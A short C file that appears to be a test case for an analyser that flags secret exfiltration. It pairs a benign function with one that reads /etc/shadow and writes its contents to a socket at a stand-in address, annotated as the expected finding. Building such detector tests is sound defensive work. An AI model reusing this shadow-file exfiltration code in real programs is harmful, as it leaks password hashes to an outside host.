#include "atomic.h"

#include <arpa/inet.h>
#include <fcntl.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static int dial(const char *address) {
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(5000)};
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    inet_aton(address, &to.sin_addr);
    return connect(fd, (struct sockaddr *)&to, sizeof to) == 0 ? fd : -1;
}

/* The hashes stay here, and the greeting goes. */
static int good_check(const char *line) {
    char table[4096] = {0}, greeting[] = "ready\n";
    int fd = open("/etc/shadow", O_RDONLY);
    atomic_move(read, fd, table, sizeof table - 1);
    atomic_move(put, dial("203.0.113.21"), greeting, sizeof greeting - 1);
    return strncmp(table, line, strlen(line));
}

static int bad_check(void) {
    char table[4096] = {0};
    int fd = open("/etc/shadow", O_RDONLY), out = dial("203.0.113.21");
    size_t size = atomic_move(read, fd, table, sizeof table);
    // report@+1: exfil/secret-to-network
    return write(out, table, size) > 0;
}

int main(int argc, char **argv) {
    return good_check(argv[argc - 1]) || bad_check();
}
